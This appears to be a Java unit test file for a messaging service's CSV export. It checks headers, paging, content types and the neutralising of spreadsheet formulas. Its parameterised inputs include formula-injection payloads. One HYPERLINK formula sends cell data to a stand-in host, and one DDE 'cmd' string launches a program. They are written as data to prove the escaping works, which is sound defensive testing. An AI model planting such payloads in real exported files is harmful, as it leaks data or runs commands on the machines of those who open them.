package io.crier.rest.v1.messages;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.crier.application.Slice;
import io.crier.application.messages.FindMessages.Listed;
import io.crier.domain.accounts.AccountId;
import io.crier.domain.messages.Content;
import io.crier.domain.messages.Message;
import io.crier.domain.messages.MessageFixture;
import io.crier.domain.messages.MessageId;
import io.crier.domain.messages.Priority;
import io.crier.domain.messages.Recipient;
import io.crier.domain.messages.WhatsAppId;
import io.crier.domain.sessions.SessionId;
import io.crier.rest.v1.media.TestLinks;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MessageTableTest {

  private static final Instant NOW = Instant.parse("2026-01-31T09:30:00Z");

  private final MessageTable table = new MessageTable(TestLinks.links());

  @Test
  void writesAHeaderAndARowForEachMessage() throws IOException {
    var text = text(List.of(message(new Content.Text("أهلا, \"you\"\r\nthere"))));

    assertThat(text)
        .startsWith(
            "\uFEFF\"id\",\"createdAt\",\"sessionId\",\"direction\",\"from\",\"fromName\",\"author\",\"to\","
                + "\"type\",\"text\",\"filename\",\"status\",\"error\",\"sentAt\",\"deliveredAt\","
                + "\"readAt\",\"waMessageId\",\"test\",\"metadata\"\r\n")
        .endsWith("\r\n");
    assertThat(rows(text))
        .singleElement()
        .satisfies(
            row ->
                assertThat(row)
                    .containsEntry("id", "00000000-0000-0000-0000-000000000003")
                    .containsEntry("createdAt", "2026-01-31T09:30:00.000Z")
                    .containsEntry("direction", "outbound")
                    .containsEntry("to", "+966501234567")
                    .containsEntry("type", "text")
                    .containsEntry("status", "queued")
                    .containsEntry("text", "أهلا, \"you\"\r\nthere")
                    .containsEntry("test", "false"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "--1",
        "+",
        "-1e9",
        "+966 50 1"
      })
  void defusesWhatASpreadsheetWouldRun(String text) throws IOException {
    assertThat(rows(text(List.of(message(new Content.Text(text))))))
        .singleElement()
        .satisfies(row -> assertThat(row).containsEntry("text", "'" + text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"12", "-5", "+966501234567", "-0.25", "a=1", "1+1", "'=1", "\",=1+1\r\n=2", " =1"})
  void leavesEverythingElseAsItIs(String text) throws IOException {
    assertThat(rows(text(List.of(message(new Content.Text(text))))))
        .singleElement()
        .satisfies(row -> assertThat(row).containsEntry("text", text));
  }

  @Test
  void writesEachKindOfContent() throws IOException {
    var messages = MessageFixture.contents().stream().map(MessageTableTest::received).toList();

    var rows = rows(text(messages));

    assertThat(rows).hasSize(messages.size());
    assertThat(rows)
        .extracting(row -> row.get("text"))
        .contains("hello", "read", "Riyadh", "Fatima", "👍", "Tea?", "Tea?\nYes\nNo");
    assertThat(rows).extracting(row -> row.get("filename")).contains("a.pdf", "bill.pdf");
  }

  /** A page is read only after the one before has been written. */
  @Test
  void holdsOnePageHoweverManyThereAre() throws IOException {
    var written = new AtomicLong();
    var before = new AtomicLong();
    var pages = new AtomicLong(1);
    var page =
        new Slice<>(Collections.nCopies(500, listed(message(new Content.Text("hello")))), true);

    table.write(
        counting(written),
        page,
        last -> {
          assertThat(last.items()).hasSize(500);
          assertThat(written.get() - before.getAndSet(written.get())).isGreaterThan(50_000);
          return pages.incrementAndGet() < 200 ? page : new Slice<>(page.items(), false);
        });

    assertThat(pages.get() * 500).isEqualTo(100_000);
    assertThat(written.get()).isGreaterThan(10_000_000);
  }

  @Test
  void breaksOffIfTheNextPageCannotBeRead() {
    var page = new Slice<>(List.of(listed(message(new Content.Text("hello")))), true);

    assertThatThrownBy(
            () ->
                table.write(
                    OutputStream.nullOutputStream(),
                    page,
                    last -> {
                      throw new IllegalStateException("no database");
                    }))
        .hasMessage("no database");
  }

  private String text(List<Message> messages) throws IOException {
    var out = new ByteArrayOutputStream();
    table.write(
        out,
        new Slice<>(messages.stream().map(MessageTableTest::listed).toList(), false),
        it -> it);
    return out.toString(StandardCharsets.UTF_8);
  }

  private static List<Map<String, String>> rows(String text) throws IOException {
    var reader = new CsvMapper().readerFor(Map.class).with(CsvSchema.emptySchema().withHeader());
    try (MappingIterator<Map<String, String>> rows = reader.readValues(text.substring(1))) {
      return rows.readAll();
    }
  }

  private static OutputStream counting(AtomicLong written) {
    return new OutputStream() {
      @Override
      public void write(int one) {
        written.incrementAndGet();
      }

      @Override
      public void write(byte[] bytes, int offset, int length) {
        written.addAndGet(length);
      }
    };
  }

  private static Listed listed(Message message) {
    return new Listed(message, Optional.empty());
  }

  private static Message received(Content content) {
    return Message.receive(
        new AccountId(new UUID(0, 1)),
        new SessionId(new UUID(0, 2)),
        Recipient.parse("966501234567@c.us"),
        Optional.empty(),
        content,
        new WhatsAppId("3EB0"),
        NOW,
        NOW);
  }

  private static Message message(Content content) {
    return Message.accept(
        new MessageId(new UUID(0, 3)),
        new AccountId(new UUID(0, 1)),
        new SessionId(new UUID(0, 2)),
        Recipient.parse("966501234567@c.us"),
        content,
        MessageFixture.of(Priority.NORMAL),
        new WhatsAppId("3EB0"),
        NOW);
  }
}
